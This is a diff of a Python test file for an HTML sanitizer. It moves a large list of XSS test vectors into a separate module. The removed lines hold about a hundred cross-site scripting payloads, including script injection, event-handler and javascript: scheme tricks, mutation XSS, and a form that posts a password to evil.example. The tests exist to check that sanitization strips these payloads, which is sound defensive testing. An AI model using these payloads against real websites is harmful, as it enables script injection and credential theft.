@@ -11,191 +11,32 @@ from pathlib import Path
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
-from selectolax.lexbor import LexborHTMLParser
 
 from digest.articles import policy, sanitize
 from digest.articles.bleaching import bleach
 from digest.articles.sanitize import ENGINES, clean
 from digest.articles.summary import plain_text
+from tests.articles.attacks import ATTACKS, VECTORS, violations
 
 BOTH, NH3 = ENGINES
 #: Those whose tags a parser passes over in a body, or that have no end.
 NO_ELEMENTS = frozenset({"frameset", "head", "plaintext"})
 
-VECTORS: dict[str, list[str]] = {
-    "scripts": [
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "<script/x>alert(1)</script >",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "<script>//<!--\nalert(1)//--></script>",
-        "<script>'</script><img src=x onerror=alert(1)>'</script>",
-        "<<script>alert(1)//<</script>",
-        "<script",
-        "</script><script>alert(1)",
-        "<script\x00>alert(1)</script>",
-    ],
-    "handlers": [
-        "<img src=https://e.org/i.png onerror=alert(1)>",
-        "<p onclick=alert(1)>x</p>",
-        "<p OnMouseOver='alert(1)'>x</p>",
-        "<details open ontoggle=alert(1)><summary>x</summary></details>",
-        "<img/src='https://e.org/i.png'/onerror='alert(1)'>",
-        "<b/onmouseover=alert(1)//>x",
-        '<a href="https://e.org/" title="" onclick="alert(1)">x</a>',
-        '<img alt="`" title="`onerror=alert(1)" src="https://e.org/i.png">',
-        "<body onload=alert(1)>x",
-        "<marquee onstart=alert(1)>x</marquee>",
-        "<input autofocus onfocus=alert(1)>",
-        "<video onloadstart=alert(1)><source onerror=alert(1)></video>",
-    ],
-    "schemes": [
-        "<a href=javascript:alert(1)>x</a>",
-        "<a href=' JaVaScRiPt:alert(1)'>x</a>",
-        "<a href='java\tscript:alert(1)'>x</a>",
-        "<a href='java\nscript:alert(1)'>x</a>",
-        "<a href='java\x03script:alert(1)'>x</a>",
-        "<a href='java&#3;script:alert(1)'>x</a>",
-        "<a href='\x01javascript:alert(1)'>x</a>",
-        "<a href='&#106;avascript:alert(1)'>x</a>",
-        "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
-        "<a href='javascript&Tab;:alert(1)'>x</a>",
-        "<a href='javascript&amp;colon;alert(1)'>x</a>",
-        "<a href='vbscript:msgbox(1)'>x</a>",
-        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
-        "<img src=javascript:alert(1)>",
-        "<a href='file:///etc/passwd'>x</a>",
-        "<a href='blob:https://e.org/1'>x</a>",
-        "<a href='feed:javascript:alert(1)'>x</a>",
-        "<a href='view-source:https://e.org/'>x</a>",
-        "<a href='//evil.example/'>x</a>",
-        "<a href='/relative'>x</a>",
-        "<a href='https:evil.example'>x</a>",
-        "<a href='https:\\\\evil.example'>x</a>",
-        "<a xlink:href='javascript:alert(1)'>x</a>",
-        "<img src='mailto:a@e.org'>",
-        "<img srcset='javascript:alert(1) 1x' src=x>",
-        "<blockquote cite='javascript:alert(1)'>x</blockquote>",
-        "<a ping='https://evil.example/' href='https://e.org/'>x</a>",
-    ],
-    "styles": [
-        "<style>@import 'https://evil.example/x.css';</style>",
-        "<p style='background:url(javascript:alert(1))'>x</p>",
-        "<p style='position:fixed;top:0'>x</p>",
-        "<link rel=stylesheet href=https://evil.example/x.css>",
-        "<p class='site-button'>x</p>",
-        "<code class='language-py evil'>x</code>",
-        "<table background=https://evil.example/x><tr><td>x</table>",
-        "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
-    ],
-    "frames and plugins": [
-        "<iframe src=https://evil.example/></iframe>",
-        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-        "<object data=https://evil.example/x.swf><param name=x></object>",
-        "<embed src=https://evil.example/x.swf>",
-        "<applet code=x>x</applet>",
-        "<frameset><frame src=javascript:alert(1)></frameset>",
-        "<portal src=https://evil.example/></portal>",
-        "<base href=https://evil.example/>",
-        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    ],
-    "forms": [
-        "<form action=https://evil.example/><input name=password><button>x</button></form>",
-        "<button formaction=javascript:alert(1)>x</button>",
-        "<textarea autofocus onfocus=alert(1)>x</textarea>",
-        "<select onchange=alert(1)><option>x</select>",
-        "<isindex action=javascript:alert(1) type=image>",
-    ],
-    "foreign content": [
-        "<svg onload=alert(1)>",
-        "<svg><script>alert(1)</script></svg>",
-        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-        "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
-        (
-            "<math><mtext><table><mglyph><style><!--</style>"
-            "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
-        ),
-        "<math><annotation-xml encoding='text/html'><p onclick=x>x</p></annotation-xml></math>",
-        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
-        "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
-    ],
-    "mutation": [
-        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-        "<p><table><a href=x><td></table><svg><desc><p></svg><style><img src=x onerror=alert(1)>",
-        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
-        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
-        "<plaintext><img src=x onerror=alert(1)>",
-        "<template><img src=x onerror=alert(1)></template>",
-        "<a title='<!--'><img title='--><img src=x onerror=alert(1)>'>",
-        "<![CDATA[<img src=x onerror=alert(1)>]]>",
-        "<!--><img src=x onerror=alert(1)>-->",
-        "<!-- --!><img src=x onerror=alert(1)> -->",
-        "<?xml version=1.0?><img src=x onerror=alert(1)>",
-        "<a href=https://e.org/><table><a href=https://e.org/>x</table>",
-    ],
-    "clobbering and tracking": [
-        "<img name=getElementById src=https://e.org/i.png>",
-        "<p id=content>x</p>",
-        "<a href=https://e.org/ target=_blank rel=opener>x</a>",
-        "<img src=https://e.org/i.png referrerpolicy=unsafe-url>",
-        "<img src=https://e.org/i.png width=999999 height=-1>",
-        "<td colspan=99999>x</td>",
-    ],
-    "characters": [
-        "a\x00b\x08c",
-        "a\ud800b",
-        "a&#0;b&#8;c&#xD800;d&#xFFFF;e",
-        "&#" + "9" * 5_000 + ";",
-        "a\u202eb",
-        "\ufdd0\U0010f0d1<b>x</b>",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "&amp;lt;script&amp;gt;",
-        "a\r\nb&#13;c",
-    ],
-}
-
-
-def problems(markup: str) -> list[str]:
-    """Return what a browser would find in ``markup`` that the policy does not allow."""
-    body = LexborHTMLParser("<!doctype html><body>" + markup).body
-    assert body is not None
-    found = []
-    for node in list(body.traverse())[1:]:
-        tag = node.tag or "?"
-        if tag not in policy.TAGS:
-            found.append(tag)
-        for name, value in node.attributes.items():
-            if name == "rel":
-                allowed = tag == "a" and value == policy.LINK_REL
-            else:
-                allowed = policy.permits(tag, name, value or "")
-            if name in ("href", "src"):
-                allowed = allowed and bool(re.match(r"(?i)https?://[^/]|mailto:", value or ""))
-            if not allowed:
-                found.append(f"{tag} {name}={value!r}")
-    if re.search("[^\t\n\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", markup):
-        found.append("a character that XML forbids")
-    return found
-
 
 def test_there_are_enough_vectors() -> None:
-    assert sum(map(len, VECTORS.values())) >= 100
+    assert len(set(ATTACKS)) == sum(map(len, VECTORS.values())) >= 200
 
 
 @pytest.mark.parametrize("engines", ENGINES, ids="+".join)
-@pytest.mark.parametrize("vector", [one for many in VECTORS.values() for one in many])
+@pytest.mark.parametrize("vector", ATTACKS)
 def test_no_attack_leaves_anything_behind(vector: str, engines: tuple[str, ...]) -> None:
     result = clean(f"<p>before</p>{vector}", engines)
-    assert problems(result) == []
+    assert violations(result) == []
     assert result.startswith("<p>before</p>")
     assert clean(result, engines) == result
 
 
-@pytest.mark.parametrize("vector", [one for many in VECTORS.values() for one in many])
+@pytest.mark.parametrize("vector", ATTACKS)
 def test_bleach_alone_would_have_sufficed_for_elements(vector: str) -> None:
     assert "<script" not in bleach(vector)
     assert not re.search(
@@ -277,7 +118,7 @@ def test_parsers_that_disagree_about_list_items_settle() -> None:
 
 def test_a_dispute_ends_after_so_many_passes(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sanitize, "_MAX_PASSES", 1)
-    assert problems(clean(DISPUTED, BOTH)) == []
+    assert violations(clean(DISPUTED, BOTH)) == []
 
 
 def test_what_does_not_settle_loses_the_elements_that_move(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -287,7 +128,7 @@ def test_what_does_not_settle_loses_the_elements_that_move(monkeypatch: pytest.M
     assert "x" in result
     assert "<p>y</p>" in result
     assert "<a" not in result
-    assert problems(result) == []
+    assert violations(result) == []
 
 
 @pytest.mark.parametrize(
@@ -384,7 +225,7 @@ def test_any_markup_comes_out_clean_and_stays_as_it_is(
     engines: tuple[str, ...], markup: str
 ) -> None:
     result = clean(markup, engines)
-    assert problems(result) == []
+    assert violations(result) == []
     assert clean(result, engines) == result
 
 
